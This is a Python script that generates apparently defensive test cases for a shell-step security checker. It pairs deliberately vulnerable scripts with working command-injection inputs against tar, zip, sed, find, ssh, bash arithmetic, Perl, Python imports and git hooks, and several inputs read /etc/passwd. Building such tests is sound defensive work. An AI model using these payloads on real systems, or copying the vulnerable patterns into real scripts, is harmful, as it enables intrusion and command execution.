import sys, os, subprocess, tempfile
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from mk import *
PAY = "echo HARBOR-PWNED-$((6*7))"
A = []
def add(slug, y, args, cls, why): A.append((slug, y, args, cls, why))
SEC = "secrets:\n  API_TOKEN: {env: HARBOR_TEST_SECRET}\n"

# ---------- attachments ----------
opt_tar = tgz({"--checkpoint=1": "", "--checkpoint-action=exec=sh run.sh": "", "run.sh": PAY + "\n", "notes.txt": "hello\n"})
opt_zip = tgz({"-T": "", "--unzip-command=sh run.sh": "", "run.sh": PAY + " >&2\n", "notes.txt": "hello\n"})
opt_ls = tgz({"--checkpoint=1": "", "--checkpoint-action=exec=sh${IFS}run.sh": "", "run.sh": PAY + "\n", "notes.txt": "hello\n"})
opt_sed = tgz({"--expression=1e sh run.sh": "", "run.sh": PAY + "\n", "a.txt": "first line\n"})
evil_name = tgz({"x$(" + PAY + " >&2).log": "line\n", "ok.log": "fine\n"})
plain_tar = tgz({"README.txt": "hello\n", "data.csv": "a,b\n1,2\n"})
py_shadow = tgz({"json.py": "import os\nos.system('" + PAY + " >&2')\nfrom importlib import import_module as _i\n", "package.json": "{\"name\": \"demo\"}\n"})
py_pkg_shadow = tgz({"json/__init__.py": "import os\nos.system('" + PAY + " >&2')\n", "package.json": "{\"name\": \"demo\"}\n"}, dirs=["json"])
evil_py = b64("\"\"\"Utility helpers.\"\"\"\nimport os\nos.system('" + PAY + " >&2')\n\ndef helper(x):\n    \"\"\"Return x.\n\n    >>> helper(1)\n    1\n    \"\"\"\n    return x\n")
evil_pl = b64("use strict;\nBEGIN { system(q{" + PAY + "}) }\nprint \"hello\\n\";\n")
xargs_list = b64("/etc/passwd\n--checkpoint=1\n'--checkpoint-action=exec=" + PAY + "'\n")
# git repo with core.fsmonitor
gd = tempfile.mkdtemp()
subprocess.run("git init -q . && echo hi > README && git add README && git -c user.email=a@example.com -c user.name=a commit -qm init && git config core.fsmonitor 'echo HARBOR-PWNED-$((6*7)) >&2; false'", shell=True, cwd=gd, check=True)
git_repo = tgz_dir(gd)

# ---------- option injection through splitting / re-reading ----------
add("xargs-tar", f"""
name: r2a_001
description: Pack the listed files (one per line, or separated by blanks) into a tarball in the run directory.
args:
  files: {{type: string, minLength: 1, maxLength: 2000, description: "Files to pack, separated by blanks."}}
required: [files]
steps:
  - name: pack
    run: |
      printf '%s\\n' "$ARG_files" | xargs tar -czf "$HARBOR_RUN_DIR/bundle.tgz"
      tar -tzf "$HARBOR_RUN_DIR/bundle.tgz"
""", {"files": "/etc/passwd '--checkpoint=1' '--checkpoint-action=exec=" + PAY + "'"},
 "xargs-stdin-argv", "xargs turns the bytes of its standard input into argv elements of tar (quotes honoured, blanks split): items after the first may start with '-', so stdin 'data' becomes tar options (--checkpoint-action=exec). The no-leading-dash rule only sees the first character of the whole value.")

add("xargs-sed", """
name: r2a_002
description: Print the first three lines of each listed file.
args:
  files: {type: string, minLength: 1, maxLength: 2000, description: "Blank-separated file names."}
required: [files]
steps:
  - name: heads
    run: printf '%s\\n' "$ARG_files" | xargs sed -n '1,3p'
""", {"files": "/etc/passwd '--expression=1e " + PAY + "'"},
 "xargs-stdin-argv", "An xargs item becomes GNU sed's --expression (sed permutes options), whose 'e' command runs a shell command.")

add("xargs-find", """
name: r2a_003
description: List the files under each of the given folders.
args:
  dirs: {type: string, minLength: 1, maxLength: 1000, description: "Blank-separated folders."}
required: [dirs]
steps:
  - name: list
    run: printf '%s\\n' "$ARG_dirs" | xargs find | head -n 200
""", {"dirs": "/etc/passwd -maxdepth 0 -exec sh -c '" + PAY + "' ;"},
 "xargs-stdin-argv", "xargs items reach find's expression: -exec sh -c runs code; a value that does not start with '-' still carries later words that do.")

add("xargs-zip", """
name: r2a_004
description: Zip the listed files into the run directory.
args:
  files: {type: string, minLength: 1, maxLength: 2000}
required: [files]
steps:
  - name: zip
    run: printf '%s\\n' "$ARG_files" | xargs zip -q -j "$HARBOR_RUN_DIR/files.zip"
""", {"files": "/etc/passwd -T '--unzip-command=" + PAY + " >&2;:'"},
 "xargs-stdin-argv", "zip -T --unzip-command=CMD runs CMD through the shell; the option arrives as an xargs item.")

add("xargs-a-attachment", """
name: r2a_005
description: Archive the files named in an uploaded list (one name per line).
args:
  list:
    type: string
    contentEncoding: base64
    max_bytes: 65536
    description: A text file with one path per line.
required: [list]
steps:
  - name: pack
    run: |
      xargs -a "$ARG_list" tar -czf "$HARBOR_RUN_DIR/listed.tgz"
      echo "packed $(tar -tzf "$HARBOR_RUN_DIR/listed.tgz" | wc -l) files"
""", {"list": xargs_list},
 "xargs-stdin-argv", "xargs -a FILE reads argv items from a caller-written file (an attachment): its lines become tar options.")

add("readarray-split-sed", """
name: r2a_006
description: Count the lines of the given files (blank-separated).
args:
  files: {type: string, minLength: 1, maxLength: 2000}
required: [files]
steps:
  - name: count
    run: |
      read -ra paths <<< "$ARG_files"
      sed -n '$=' "${paths[@]}"
""", {"files": "/etc/passwd --expression=1eecho${IFS}HARBOR-PWNED-$((6*7))"},
 "split-to-options", "read -a splits the value on blanks: the second word starts with '-' and GNU sed takes it as --expression (e runs it through sh, which expands ${IFS}).")

add("mapfile-lines-tar", """
name: r2a_007
description: Archive the listed paths, one per line.
args:
  paths: {type: string, multiline: true, minLength: 1, maxLength: 4000, description: "One path per line."}
required: [paths]
steps:
  - name: archive
    run: |
      mapfile -t list <<< "$ARG_paths"
      tar -czf "$HARBOR_RUN_DIR/archive.tgz" "${list[@]}"
      echo "archived ${#list[@]} paths"
""", {"paths": "/etc/passwd\n--checkpoint=1\n--checkpoint-action=exec=" + PAY},
 "split-to-options", "leading_dash is checked on the value's first character only; each line of a multiline value is its own argv element after mapfile, and may start with '-'.")

add("while-read-zip", """
name: r2a_008
description: Zip the listed files (one per line) and show the archive listing.
args:
  files: {type: string, multiline: true, minLength: 1, maxLength: 4000}
required: [files]
steps:
  - name: zip
    run: |
      items=()
      while IFS= read -r line; do
        [ -n "$line" ] && items+=("$line")
      done <<< "$ARG_files"
      zip -q -j "$HARBOR_RUN_DIR/out.zip" "${items[@]}"
      unzip -l "$HARBOR_RUN_DIR/out.zip"
""", {"files": "/etc/passwd\n-T\n--unzip-command=" + PAY + " >&2;:"},
 "split-to-options", "Lines read one by one into an array: every line after the first may be an option (zip -T -TT runs a command).")

add("ifs-comma-tar", """
name: r2a_009
description: Archive a comma-separated list of paths.
args:
  paths: {type: string, minLength: 1, maxLength: 2000, description: "Comma-separated paths, e.g. src,docs"}
required: [paths]
steps:
  - name: archive
    run: |
      IFS=, read -ra list <<< "$ARG_paths"
      tar -czf "$HARBOR_RUN_DIR/archive.tgz" "${list[@]}"
""", {"paths": "/etc/passwd,--checkpoint=1,--checkpoint-action=exec=" + PAY},
 "split-to-options", "IFS=, read -a: items after a comma keep their leading '-'.")

add("patsub-unquoted-sed", """
name: r2a_010
description: Show the first line of each comma-separated file.
args:
  files: {type: string, minLength: 1, maxLength: 2000}
required: [files]
steps:
  - name: first
    run: |
      # shellcheck disable=SC2086
      sed -n '1p' ${ARG_files//,/ }
""", {"files": "/etc/passwd,--expression=1eecho${IFS}HARBOR-PWNED-$((6*7))"},
 "split-to-options", "${x//,/ } rewrites the value and the unquoted expansion splits it: a word after the first may be an option (rule 3 + word splitting).")

add("echo-trim-option", """
name: r2a_011
description: Echo back a cleaned-up label (surrounding blanks removed).
args:
  label: {type: string, minLength: 1, maxLength: 200}
required: [label]
steps:
  - name: label
    run: |
      label=$(echo $ARG_label)
      printf 'Label: %s\\n' "$label"
""", {"label": "  -e \\x48ARBOR-PWNED-\\x34\\x32"},
 "split-to-options", "The common trim idiom $(echo $x): leading blanks pass the no-leading-dash rule, splitting makes '-e' echo's first argument, and echo -e decodes escapes the caller wrote.")

add("read-trim-tar-member", """
name: r2a_012
description: Extract one member of an uploaded .tar.gz and list what was extracted.
args:
  bundle: {type: string, contentEncoding: base64, max_bytes: 1048576}
  member: {type: string, minLength: 1, maxLength: 500, description: "Member name; surrounding blanks are ignored."}
required: [bundle, member]
steps:
  - name: extract
    run: |
      read -r member <<< "$ARG_member"
      out="$HARBOR_RUN_DIR/out"; mkdir -p "$out"
      tar -xzf "$ARG_bundle" -C "$out" "$member"
      find "$out" -type f | head -n 50
""", {"bundle": plain_tar, "member": "   --to-command=sh -c '" + PAY + "'"},
 "split-to-options", "read strips leading blanks: ' --to-command=…' passes validation (no leading '-') and becomes a tar option after read.")

add("xargs-trim-ssh", """
name: r2a_013
description: Show the uptime of a host over ssh (batch mode).
args:
  host: {type: string, minLength: 1, maxLength: 253}
required: [host]
timeout: 20
steps:
  - name: uptime
    run: |
      host=$(printf '%s' "$ARG_host" | xargs)
      timeout 10 ssh -o BatchMode=yes -o ConnectTimeout=5 "$host" uptime
""", {"host": " '-oProxyCommand=sh -c \"" + PAY + " >&2\"'"},
 "split-to-options", "`| xargs` is a common trim idiom; it also removes quotes and leading blanks, so the output starts with '-' and ssh reads -oProxyCommand (run locally).")

add("step-output-split", """
name: r2a_014
description: Normalise a comma-separated path list, then archive it.
args:
  paths: {type: string, minLength: 1, maxLength: 2000}
required: [paths]
steps:
  - name: prep
    run: |
      echo "files=$(printf '%s' "$ARG_paths" | tr ',' ' ')" >> "$HARBOR_STEP_OUTPUT"
  - name: archive
    run: |
      # shellcheck disable=SC2086
      tar -czf "$HARBOR_RUN_DIR/a.tgz" $STEP_prep_files
""", {"paths": "/etc/passwd,--checkpoint=1,--checkpoint-action=exec=echo${IFS}HARBOR-PWNED-$((6*7))"},
 "step-output", "A step output derived from the caller is split unquoted in the next step: later words are tar options.")

add("trap-unquoted", """
name: r2a_015
description: Run a quick check and always pack the listed log files at exit.
args:
  logs: {type: string, minLength: 1, maxLength: 2000, description: "Blank-separated log files."}
required: [logs]
steps:
  - name: check
    run: |
      logs="$ARG_logs"
      trap 'tar -czf "$HARBOR_RUN_DIR/logs.tgz" $logs' EXIT
      echo "checking..."
""", {"logs": "/etc/passwd --checkpoint=1 --checkpoint-action=exec=echo${IFS}HARBOR-PWNED-$((6*7))"},
 "trap-text", "The single-quoted trap text is parsed at exit; there $logs is unquoted, so the caller's words split into tar options.")

add("object-nested-dash", """
name: r2a_016
description: 'Archive the paths listed in a JSON spec {"paths": [...]}.'
args:
  spec:
    type: object
    properties:
      paths: {type: array, items: {type: string}}
    required: [paths]
required: [spec]
steps:
  - name: archive
    run: |
      mapfile -t paths < <(jq -r '.paths[]' <<< "$ARG_spec")
      tar -czf "$HARBOR_RUN_DIR/spec.tgz" "${paths[@]}"
""", {"spec": {"paths": ["/etc/passwd", "--checkpoint=1", "--checkpoint-action=exec=" + PAY]}},
 "object-arg", "leading_dash is not applied inside objects ('Objects are not looked into'): jq hands the nested strings, '-' first, to tar.")

add("array-of-objects-zip", """
name: r2a_017
description: Zip the files described by a list of {file, note} records.
args:
  entries:
    type: array
    items:
      type: object
      properties:
        file: {type: string}
        note: {type: string}
required: [entries]
steps:
  - name: zip
    run: |
      mapfile -t files < <(jq -r '.[].file' <<< "$ARG_entries")
      zip -q -j "$HARBOR_RUN_DIR/entries.zip" "${files[@]}"
""", {"entries": [{"file": "/etc/passwd"}, {"file": "-T"}, {"file": "--unzip-command=" + PAY + " >&2;:"}]},
 "object-arg", "Strings inside array items that are objects are not held to no-leading-dash.")

add("unquoted-list", """
name: r2a_018
description: Archive blank-separated paths.
args:
  files: {type: string, minLength: 1, maxLength: 2000}
required: [files]
steps:
  - name: archive
    run: tar -czf "$HARBOR_RUN_DIR/out.tgz" $ARG_files
""", {"files": "/etc/passwd --checkpoint=1 --checkpoint-action=exec=echo${IFS}HARBOR-PWNED-$((6*7))"},
 "split-to-options", "Plain unquoted caller variable: word splitting yields words that start with '-'.")

add("glob-tar-extracted", """
name: r2a_019
description: Repack an uploaded .tar.gz with normalised ordering.
args:
  bundle: {type: string, contentEncoding: base64, max_bytes: 1048576}
required: [bundle]
steps:
  - name: repack
    run: |
      d="$HARBOR_RUN_DIR/unpacked"; mkdir -p "$d"
      tar -xzf "$ARG_bundle" -C "$d"
      cd "$d"
      tar -czf "$HARBOR_RUN_DIR/repacked.tgz" *
      tar -tzf "$HARBOR_RUN_DIR/repacked.tgz"
""", {"bundle": opt_tar},
 "glob-caller-names", "A literal glob in a folder the caller filled: the file names (chosen in the archive) become tar options (classic wildcard injection).")

add("glob-zip-extracted", """
name: r2a_020
description: Convert an uploaded .tar.gz to a .zip.
args:
  bundle: {type: string, contentEncoding: base64, max_bytes: 1048576}
required: [bundle]
steps:
  - name: convert
    run: |
      d="$HARBOR_RUN_DIR/src"; mkdir -p "$d"
      tar -xzf "$ARG_bundle" -C "$d"
      cd "$d" && zip -q "$HARBOR_RUN_DIR/converted.zip" *
""", {"bundle": opt_zip},
 "glob-caller-names", "Glob over caller-named files: '-T' and '--unzip-command=sh run.sh' become zip options.")

add("glob-sed-extracted", """
name: r2a_021
description: Show the first line of every file in an uploaded .tar.gz.
args:
  bundle: {type: string, contentEncoding: base64, max_bytes: 1048576}
required: [bundle]
steps:
  - name: heads
    run: |
      d="$HARBOR_RUN_DIR/x"; mkdir -p "$d"
      tar -xzf "$ARG_bundle" -C "$d"
      cd "$d"
      sed -n '1p' *
""", {"bundle": opt_sed},
 "glob-caller-names", "A caller file named '--expression=1e sh run.sh' turns sed's operand list into a program with 'e'.")

add("ls-xargs-extracted", """
name: r2a_022
description: Archive the top-level entries of an uploaded bundle.
args:
  bundle: {type: string, contentEncoding: base64, max_bytes: 1048576}
required: [bundle]
steps:
  - name: archive
    run: |
      d="$HARBOR_RUN_DIR/in"; mkdir -p "$d"
      tar -xzf "$ARG_bundle" -C "$d"
      cd "$d" && ls | xargs tar -czf "$HARBOR_RUN_DIR/top.tgz"
""", {"bundle": opt_ls},
 "glob-caller-names", "ls prints caller-chosen names without './'; xargs passes them to tar as options.")

add("nested-bash-split", """
name: r2a_023
description: Archive blank-separated paths (in a helper shell).
args:
  files: {type: string, minLength: 1, maxLength: 2000}
required: [files]
steps:
  - name: archive
    run: |
      bash -c 'tar -czf "$0" $1' "$HARBOR_RUN_DIR/n.tgz" "$ARG_files"
""", {"files": "/etc/passwd --checkpoint=1 --checkpoint-action=exec=echo${IFS}HARBOR-PWNED-$((6*7))"},
 "nested-shell", "The value is passed as data ($1), but the literal inner script expands $1 unquoted: split into tar options inside the nested shell.")

add("function-slice-args", """
name: r2a_024
description: Pack the listed paths (one per line) under a chosen archive name.
args:
  name: {type: string, pattern: "^[a-z0-9_-]{1,32}$"}
  paths: {type: string, multiline: true, maxLength: 4000}
required: [name, paths]
steps:
  - name: pack
    run: |
      archive() { tar -czf "$HARBOR_RUN_DIR/$1.tgz" "${@:2}"; }
      mapfile -t ps <<< "$ARG_paths"
      archive "$ARG_name" "${ps[@]}"
""", {"name": "logs", "paths": "/etc/passwd\n--checkpoint=1\n--checkpoint-action=exec=" + PAY},
 "function-args", "A function forwards \"${@:2}\" (a slice, not \"$@\") to tar; the slice carries option-looking lines.")

# ---------- arithmetic contexts ----------
AP = "a[$(echo HARBOR-PWNED-$((6*7)) >&2)]"
add("dbl-bracket-gt", """
name: r2a_025
description: Retry a health probe a given number of times.
args:
  retries: {type: string, default: "3", maxLength: 10, description: "How many retries (a number)."}
steps:
  - name: probe
    run: |
      if [[ $ARG_retries -gt 0 ]]; then
        echo "will retry up to $ARG_retries times"
      fi
""", {"retries": AP},
 "arithmetic-eval", "[[ a -gt b ]] evaluates both operands arithmetically: an array subscript in the value runs $(…).")

add("indexed-not-assoc", """
name: r2a_026
description: Look up the default port of a well-known service.
args:
  service: {type: string, minLength: 1, maxLength: 40}
required: [service]
steps:
  - name: port
    run: |
      ports=([http]=80 [https]=443 [ssh]=22)
      echo "port: ${ports[$ARG_service]:-unknown}"
""", {"service": AP},
 "arithmetic-eval", "Without declare -A, ports is an indexed array and the subscript is arithmetic: the caller's text is evaluated.")

add("func-local-assoc", """
name: r2a_027
description: Count how often a word was seen, using a table set up by a helper.
args:
  word: {type: string, minLength: 1, maxLength: 100}
required: [word]
steps:
  - name: count
    run: |
      init_table() { declare -A seen; seen[start]=1; }
      init_table
      seen[$ARG_word]=1
      echo "recorded"
""", {"word": AP},
 "arithmetic-eval", "declare -A inside a function is local; at the global use 'seen' is an indexed array, so the subscript is arithmetic.")

add("test-v-name", """
name: r2a_028
description: Tell whether a named build setting is defined.
args:
  key: {type: string, minLength: 1, maxLength: 64}
required: [key]
steps:
  - name: has
    run: |
      cfg_debug=1; cfg_release=0
      if [[ -v cfg_$ARG_key ]]; then echo defined; else echo undefined; fi
""", {"key": AP},
 "arithmetic-eval", "[[ -v NAME ]] evaluates an array subscript in NAME arithmetically.")

add("substring-offset", """
name: r2a_029
description: Show part of a line of text.
args:
  text: {type: string, maxLength: 1000}
  offset: {type: string, default: "0", maxLength: 10}
required: [text]
steps:
  - name: cut
    run: printf '%s\\n' "${ARG_text:$ARG_offset}"
""", {"text": "hello", "offset": AP},
 "arithmetic-eval", "${x:OFFSET} evaluates OFFSET arithmetically.")

add("unset-indexed", """
name: r2a_030
description: Drop one entry from the default list of stages and print the rest.
args:
  drop: {type: string, maxLength: 40}
required: [drop]
steps:
  - name: stages
    run: |
      stages=(lint test build deploy)
      unset "stages[$ARG_drop]"
      printf '%s\\n' "${stages[@]}"
""", {"drop": AP},
 "arithmetic-eval", "unset 'arr[X]' on an indexed array evaluates X arithmetically.")

add("step-output-arith", """
name: r2a_031
description: Parse a version and warn when it is a new major release.
args:
  version: {type: string, minLength: 1, maxLength: 64}
required: [version]
steps:
  - name: parse
    run: echo "major=${ARG_version%%.*}" >> "$HARBOR_STEP_OUTPUT"
  - name: check
    run: |
      if (( STEP_parse_major >= 2 )); then echo "major release"; else echo "minor release"; fi
""", {"version": AP + ".1"},
 "arithmetic-eval", "A step output derived from the caller is read in (( )) of the next step.")

add("nameref", """
name: r2a_032
description: Print one of the preset options by name.
args:
  name: {type: string, minLength: 1, maxLength: 40}
required: [name]
steps:
  - name: opt
    run: |
      opt_color=auto; opt_width=80
      declare -n ref="opt_$ARG_name"
      echo "value: ${ref:-unset}"
""", {"name": AP},
 "arithmetic-eval", "A nameref to a computed name: reading it evaluates the subscript the caller wrote.")

add("compgen-wordlist", """
name: r2a_033
description: Complete a prefix against a list of candidate words.
args:
  words: {type: string, maxLength: 2000, description: "Blank-separated candidates."}
  prefix: {type: string, default: "", maxLength: 100}
required: [words]
steps:
  - name: complete
    run: compgen -W "$ARG_words" -- "$ARG_prefix" || true
""", {"words": "alpha beta $(" + PAY + ")"},
 "builtin-expansion", "compgen -W expands each word of its list (parameter expansion, command substitution): a data-looking option value is code.")

# ---------- interpreter programs: primitives that open/run text ----------
add("perl-n-magic-open", """
name: r2a_034
description: Print the non-blank lines of a file.
args:
  file: {type: string, minLength: 1, maxLength: 4096}
required: [file]
steps:
  - name: nonblank
    run: perl -ne 'print if /\\S/' -- "$ARG_file"
""", {"file": PAY + "|"},
 "interpreter-primitive", "perl -n wraps the program in while(<>): the diamond operator uses 2-argument open, so a file name ending in '|' runs a command. The program text contains no <> or open.")

add("perl-p-argv", """
name: r2a_035
description: Expand tabs to two spaces in a file.
args:
  file: {type: string, minLength: 1, maxLength: 4096}
required: [file]
steps:
  - name: expand
    argv: [perl, -pe, 's/\\t/  /g', --, "{{ args.file }}"]
""", {"file": PAY + "|"},
 "interpreter-primitive", "argv step: perl -p reads its operands with magic open; the operand is 'data' after -- but is a pipe command.")

add("perl-readline", """
name: r2a_036
description: Number the lines of a file.
args:
  file: {type: string, minLength: 1, maxLength: 4096}
required: [file]
steps:
  - name: number
    run: perl -e 'my $n = 0; while (defined(my $l = readline)) { printf "%5d %s", ++$n, $l }' "$ARG_file"
""", {"file": PAY + "|"},
 "interpreter-primitive", "readline with no argument reads *ARGV, i.e. the same magic 2-argument open as <>, spelled without <>.")

add("perl-c-begin", """
name: r2a_037
description: Check the syntax of an uploaded Perl script (perl -c) without running it.
args:
  script: {type: string, contentEncoding: base64, max_bytes: 262144}
required: [script]
steps:
  - name: syntax
    run: perl -c -- "$ARG_script"
""", {"script": evil_pl},
 "interpreter-primitive", "perl -c is not a pure syntax check: BEGIN blocks and use statements run at compile time.")

add("sed-s-e-flag", """
name: r2a_038
description: Convert dates (one per line) to Unix timestamps.
args:
  dates: {type: string, multiline: true, maxLength: 4000}
required: [dates]
steps:
  - name: convert
    run: |
      printf '%s\\n' "$ARG_dates" | sed -E 's/^(.+)$/date -u -d "\\1" +%s/e'
""", {"dates": "2024-01-01\n$(" + PAY + " >&2)"},
 "interpreter-primitive", "The s///e flag (not the e command) runs the pattern space as a shell command; caller lines are 'stdin data' to sed but end up inside that command.")

add("pydoc-file", """
name: r2a_039
description: Render the documentation of an uploaded Python module (pydoc), as text.
args:
  module: {type: string, contentEncoding: base64, max_bytes: 262144}
required: [module]
steps:
  - name: doc
    run: python3 -m pydoc "$ARG_module"
""", {"module": evil_py},
 "interpreter-primitive", "python3 -m pydoc PATH imports (runs) the file; the operand is after the program (-m pydoc), which the grammar treats as argv data.")

add("perl-deparse", """
name: r2a_040
description: Pretty-print an uploaded Perl script (B::Deparse) without running it.
args:
  script: {type: string, contentEncoding: base64, max_bytes: 262144}
required: [script]
steps:
  - name: deparse
    run: perl -MO=Deparse -- "$ARG_script"
""", {"script": evil_pl},
 "interpreter-primitive", "B::Deparse compiles the file first: BEGIN blocks run. Another 'read-only' perl mode that executes caller code.")

add("cprofile-file", """
name: r2a_041
description: Report the import cost of an uploaded module (cProfile, top 10).
args:
  module: {type: string, contentEncoding: base64, max_bytes: 262144}
required: [module]
steps:
  - name: profile
    run: python3 -m cProfile -s cumulative "$ARG_module" | head -n 20
""", {"module": evil_py},
 "interpreter-primitive", "-m cProfile FILE executes FILE; the module's argv is not data.")

add("python-os-popen", """
name: r2a_042
description: Describe the type of a file (file -b).
args:
  path: {type: string, minLength: 1, maxLength: 4096}
required: [path]
steps:
  - name: type
    run: |
      python3 -c 'import os, sys; print(os.popen("file -b " + sys.argv[1]).read().strip())' "$ARG_path"
""", {"path": "/etc/passwd; " + PAY},
 "interpreter-primitive", "os.popen runs a shell command line: a primitive of Python that is neither eval/exec nor subprocess.")

add("python-cwd-import", """
name: r2a_043
description: Read the name from the package.json of an uploaded project archive.
args:
  project: {type: string, contentEncoding: base64, max_bytes: 1048576}
required: [project]
steps:
  - name: name
    run: |
      d="$HARBOR_RUN_DIR/project"; mkdir -p "$d"
      tar -xzf "$ARG_project" -C "$d"
      cd "$d"
      python3 -c 'import json; print(json.load(open("package.json"))["name"])'
""", {"project": py_shadow},
 "caller-folder-code", "python3 -c puts the current folder first on sys.path: the caller's json.py is imported instead of the standard library.")

add("python-m-cwd-pkg", """
name: r2a_044
description: Pretty-print the package.json of an uploaded project.
args:
  project: {type: string, contentEncoding: base64, max_bytes: 1048576}
required: [project]
steps:
  - name: show
    run: |
      d="$HARBOR_RUN_DIR/p"; mkdir -p "$d"
      tar -xzf "$ARG_project" -C "$d"
      cd "$d" && python3 -m json.tool package.json
""", {"project": py_pkg_shadow},
 "caller-folder-code", "python3 -m resolves the module from the current folder first: a caller json/ package runs.")

add("git-fsmonitor-upload", """
name: r2a_045
description: Show the status and last commits of an uploaded repository (.tar.gz of a checkout).
args:
  repo: {type: string, contentEncoding: base64, max_bytes: 4194304}
required: [repo]
steps:
  - name: status
    run: |
      d="$HARBOR_RUN_DIR/repo"; mkdir -p "$d"
      tar -xzf "$ARG_repo" -C "$d"
      git -C "$d" status --short
      git -C "$d" log --oneline -n 5
    env: {GIT_PAGER: cat, GIT_TERMINAL_PROMPT: "0"}
""", {"repo": git_repo},
 "caller-folder-code", "git reads .git/config of the folder it works in: the caller's core.fsmonitor is a command git runs on status.")

add("find-exec-braces-in-sh", """
name: r2a_046
description: Show the first lines of every log in an uploaded bundle.
args:
  bundle: {type: string, contentEncoding: base64, max_bytes: 1048576}
required: [bundle]
steps:
  - name: heads
    run: |
      d="$HARBOR_RUN_DIR/logs"; mkdir -p "$d"
      tar -xzf "$ARG_bundle" -C "$d"
      find "$d" -type f -name '*.log' -exec sh -c 'echo "== {}"; head -n 3 "{}"' \\;
""", {"bundle": evil_name},
 "nested-shell", "find substitutes {} inside the sh -c text: caller file names become shell code (inside double quotes $(…) still runs).")

add("xargs-replstr-sh", """
name: r2a_047
description: Check which of the given host names resolve.
args:
  hosts: {type: string, multiline: true, maxLength: 4000}
required: [hosts]
steps:
  - name: resolve
    run: |
      printf '%s\\n' "$ARG_hosts" | xargs -I HOST sh -c 'getent hosts "HOST" >/dev/null && echo "HOST ok" || echo "HOST unknown"'
""", {"hosts": "localhost\n$(" + PAY + " >&2)"},
 "nested-shell", "xargs -I with a replace string other than {} splices each line into the sh -c text.")

add("awk-f-stdin-heredoc", """
name: r2a_048
description: Count the lines of /etc/passwd whose login shell is the given one.
args:
  shell: {type: string, minLength: 1, maxLength: 100}
required: [shell]
steps:
  - name: count
    run: |
      awk -F: -f /dev/stdin /etc/passwd <<EOF
      \\$7 == "$ARG_shell" { n++ }
      END { print n+0 }
      EOF
""", {"shell": "x\" { n++ } BEGIN { system(\"" + PAY + "\") } $1 == \"y"},
 "stdin-as-program", "awk reads its program from -f /dev/stdin; the unquoted here-document puts the caller's text into awk code. awk's stdin is usually data.")

add("sed-f-stdin-heredoc", """
name: r2a_049
description: Print the lines of /etc/passwd that mention a user.
args:
  user: {type: string, minLength: 1, maxLength: 64}
required: [user]
steps:
  - name: grep
    run: |
      sed -n -f /dev/stdin /etc/passwd <<EOF
      /$ARG_user/p
      EOF
""", {"user": "root/p;1e " + PAY + ";#"},
 "stdin-as-program", "sed -f /dev/stdin: the here-document is sed's program, with the caller's text spliced in ('e' runs a command).")

add("jq-f-stdin-heredoc", """
name: r2a_050
description: Build a small JSON record for a name.
args:
  name: {type: string, minLength: 1, maxLength: 200}
required: [name]
steps:
  - name: build
    run: |
      jq -n -f /dev/stdin <<EOF
      {"name": "$ARG_name", "created": now | floor}
      EOF
""", {"name": "HARBOR-PWNED-\\(6*7)"},
 "stdin-as-program", "jq -f /dev/stdin makes the here-document a jq program: \\( ) in the caller's string is jq string interpolation (code).")

add("awk-f-procsub", """
name: r2a_051
description: Sum a column of a CSV file, skipping lines that start with a marker.
args:
  marker: {type: string, minLength: 1, maxLength: 20}
required: [marker]
steps:
  - name: sum
    run: |
      awk -F, -f <(printf 'index($0, "%s") == 1 { next } { s += $2 } END { print s+0 }\\n' "$ARG_marker") /etc/passwd
""", {"marker": "#\") == 1 { next } BEGIN { system(\"" + PAY + "\") } index($0, \"x"},
 "procsub-program", "printf writes the value into a process substitution that awk -f reads as its program: caller data reaches awk code through a path.")

add("wrapper-taskset-sh", """
name: r2a_052
description: Compress a log file in the run directory on one CPU core.
args:
  name: {type: string, minLength: 1, maxLength: 100}
required: [name]
steps:
  - name: compress
    run: |
      echo sample > "$HARBOR_RUN_DIR/app.log"
      taskset -c 0 sh -c "gzip -c \\"$HARBOR_RUN_DIR/app.log\\" > \\"$HARBOR_RUN_DIR/$ARG_name.gz\\""
""", {"name": "x$(" + PAY + " >&2)"},
 "wrapper", "taskset's command operand is a shell whose script text embeds the caller value (double-quoted, so $(…) runs).")

add("wrapper-ionice-sh", """
name: r2a_053
description: Measure a folder's size at idle I/O priority.
args:
  dir: {type: string, minLength: 1, maxLength: 4096}
required: [dir]
steps:
  - name: du
    run: ionice -c 3 nice -n 10 sh -c "du -sh '$ARG_dir'"
""", {"dir": "/tmp'; " + PAY + "; echo '"},
 "wrapper", "Two stacked wrappers (ionice, nice) before sh -c whose text holds the caller value in single quotes.")

add("tar-options-env", """
name: r2a_054
description: Archive a folder with extra tar options given by the caller.
args:
  dir: {type: string, minLength: 1, maxLength: 4096}
  options: {type: string, default: "", maxLength: 500, description: "Extra tar options, e.g. --exclude=*.tmp"}
required: [dir]
steps:
  - name: archive
    run: |
      TAR_OPTIONS="$ARG_options" tar -czf "$HARBOR_RUN_DIR/dir.tgz" -- "$ARG_dir"
""", {"dir": "/etc/passwd", "options": "--checkpoint=1 --checkpoint-action=exec=echo${IFS}HARBOR-PWNED-$((6*7))"},
 "env-position", "TAR_OPTIONS is read by tar as options (not data); the name ends in _OPTIONS, not _OPTS.")

add("zipopt-env", """
name: r2a_055
description: Zip a file with a caller-chosen compression setting.
args:
  file: {type: string, minLength: 1, maxLength: 4096}
  level: {type: string, default: "-6", maxLength: 100}
required: [file]
steps:
  - name: zip
    run: ZIPOPT="$ARG_level" zip -q "$HARBOR_RUN_DIR/one.zip" -- "$ARG_file"
""", {"file": "/etc/passwd", "level": "-T --unzip-command=echo${IFS}HARBOR-PWNED-$((6*7))>&2;:"},
 "env-position", "zip reads ZIPOPT as command-line options; an environment position that looks like a setting.")

add("programs-bc-calculator", """
name: r2a_056
description: Evaluate an arithmetic expression with bc (scale 6).
programs:
  bc:
    flags: [-l, -q]
    runs_operands: false
    stdin: data
args:
  expr: {type: string, minLength: 1, maxLength: 500}
required: [expr]
steps:
  - name: calc
    run: printf 'scale=6; %s\\n' "$ARG_expr" | bc -lq
""", {"expr": "0; print \"HARBOR-PWNED-\", 6*7, \"\\n\""},
 "programs-entry", "A plausible programs: entry (bc reads 'the expression' on stdin) is wrong: bc's stdin is a program (print, loops, define).")

add("bc-no-entry", """
name: r2a_057
description: Convert a number to another base with bc.
args:
  number: {type: string, minLength: 1, maxLength: 100}
  base: {type: integer, minimum: 2, maximum: 16, default: 16}
required: [number]
steps:
  - name: convert
    run: echo "obase={{ args.base }}; $ARG_number" | bc
""", {"number": "0; obase=10; print \"HARBOR-PWNED-\", 6*7, \"\\n\""},
 "grammar-fact", "If bc's shipped grammar classes stdin as data, a value echoed into it is a bc program.")

add("programs-sqlite-stdin", """
